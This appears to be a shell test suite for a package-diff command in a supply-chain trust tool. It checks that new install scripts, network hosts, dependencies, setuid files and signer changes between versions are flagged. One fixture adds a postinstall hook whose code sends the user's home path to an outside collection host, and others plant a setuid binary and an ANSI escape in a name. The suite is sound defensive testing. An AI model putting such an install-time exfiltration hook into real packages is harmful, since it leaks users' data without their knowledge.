# probity diff: what a new version brings and takes away; products, reports, numbers.
. tests/tap.sh
diffs() { run "$PROBITY" diff --as-of 2026-11-21 --database "$scratch/db" "$@"; }
make_twin() { # FOLDER VERSION EXTRA-JSON JS
  mkdir -p "$1"
  printf '{"name":"twin","version":"%s","description":"formats dates","license":"MIT","author":"A <a@b.example>"%s}\n' "$2" "$3" >"$1/package.json"
  printf '%s\n' "$4" >"$1/index.js"
}
plain='module.exports = (d) => d.toISOString().slice(0, 10);'
cd "$scratch" || exit 1
make_twin old 1.0.0 '' "$plain"
make_twin same 1.0.1 '' "$plain"
make_twin new 1.0.1 ',"scripts":{"postinstall":"node index.js"},"dependencies":{"dep-b":"1"}' \
  "$plain
require('https').get('https://collect.vendor-host.net/v1?' + process.env.HOME);"

diffs -f json old same
is "only another version: trust did not fall" "$rc" 0
is "... nothing differs" "$(get '[r["inventory"], r["findings"], r["checks"], r["trust_fell"]]')" '[{}, {"gone": [], "new": []}, [], false]'
diffs -f json old new
is "a new script, host and dependency: trust fell" "$rc" 1
first=$out
is "... the script" "$(get '[s.split(" sha256")[0] for s in r["inventory"]["scripts"]["new"]]')" '["postinstall of twin: node index.js"]'
is "... the host" "$(get 'r["inventory"]["hosts"]')" '{"gone": [], "new": ["collect.vendor-host.net"]}'
is "... the dependency" "$(get 'r["inventory"]["dependencies"]["new"]')" '["dep-b"]'
is "... the capability" "$(get '"net-connect" in r["inventory"]["capabilities"]["new"]')" true
is "... V-16 says so" "$(get 'sorted(f["finding"] for f in r["findings"]["new"] if f["check"] == "verification.update-diff")')" \
  '["capability", "dependency", "host", "script"]'
is "... what it did to trust" "$(get 'all(c["new_demerit_milli"] > c["old_demerit_milli"] for c in r["checks"]) and len(r["checks"]) > 1')" true
is "... trust of both" "$(get 'r["old"]["trust_tenths"] > r["new"]["trust_tenths"]')" true
diffs -f json old new
is "the same input, the same bytes" "$out" "$first"
diffs new old
is "the other way round" "$rc" 0
like "... what is gone" "$out" $'\n  - collect.vendor-host.net'
like "... in words" "$out" "Trust did not fall"
diffs old new
like "a text: scripts" "$out" $'Scripts of package managers\n  \\+ postinstall of twin: node index.js'
like "... findings" "$out" $'\nFindings\n  \\+ '
like "... the end" "$out" "Trust fell."

scan old && printf '%s\n' "$out" >old.json
is "a report has an inventory" "$(get 'r["inventory"]["makers"]')" '["A <a@b.example>"]'
scan new && printf '%s\n' "$out" >new.json
diffs -f json old.json new.json
is "two reports" "$rc" 1
is "... the host" "$(get 'r["inventory"]["hosts"]["new"]')" '["collect.vendor-host.net"]'
diffs -f json old.json new
is "a report and a product: as two products" "$out" "$first"
/usr/bin/python3 -c 'import json; r = json.load(open("old.json")); del r["inventory"]; r["product"]["name"] = "a\x1b[31m"; json.dump(r, open("bare.json", "w"))'
diffs bare.json new.json
like "a report without an inventory is told" "$out" "has no inventory"
is "... and what it holds cannot move the cursor" "${out//[^$'\x1b']/}" ""

# what is signed, privileged, and in a container with the version in its name
for v in 1.0 1.1; do
  mkdir -p t/twin-$v/bin && printf '#!/bin/sh\nexit 0\n# %s\n' $v >t/twin-$v/bin/tool
  [[ $v == 1.1 ]] && chmod 4755 t/twin-1.1/bin/tool
  printf 'Metadata-Version: 2.1\nName: twin\nVersion: %s\nAuthor: A\nLicense: MIT\n' $v >t/twin-$v/PKG-INFO
  tar -C t -czf twin-$v.tar.gz twin-$v
done
diffs -f json twin-1.0.tar.gz twin-1.1.tar.gz
is "a file with rights of its own, at the place of the version" "$(get 'r["inventory"]["privileged"]["new"]')" '["4755 twin-*/bin/tool"]'

samples=$scratch/made && PYTHONDONTWRITEBYTECODE=1 /usr/bin/python3 "$here/tests/samples/make_signed.py" "$samples"
cp "$samples/integrity/binary-signature/signed.exe" tool-1.exe
cp "$samples/culture/signer-publisher/other-signer.exe" tool-2.exe
cp "$samples/integrity/binary-signature/changed.exe" tool-3.exe
diffs -f json tool-1.exe tool-2.exe
is "another signer" "$(get 'r["inventory"]["signers"]')" '{"gone": ["Vendor Host Works, by itself"], "new": ["Somebody Else Ltd, by itself"]}'
is "... V-16 says so" "$(get '[f["finding"] for f in r["findings"]["new"] if f["check"] == "verification.update-diff"]')" '["signer"]'
diffs -f json tool-1.exe tool-3.exe
is "a signature that does not fit any more" "$(get 'r["inventory"]["signers"]')" '{"gone": ["Vendor Host Works, by itself"], "new": ["Vendor Host Works, by itself, not verified"]}'

status "one word is not enough" 2 "$PROBITY" diff old
status "nothing there" 2 "$PROBITY" diff old /nonexistent/x
like "... is named" "$err" "/nonexistent/x"
status "a format that is none" 2 "$PROBITY" diff -f xml old new
status "help" 0 "$PROBITY" diff --help
like "... says what the status means" "$out" "1 it fell"
done_testing
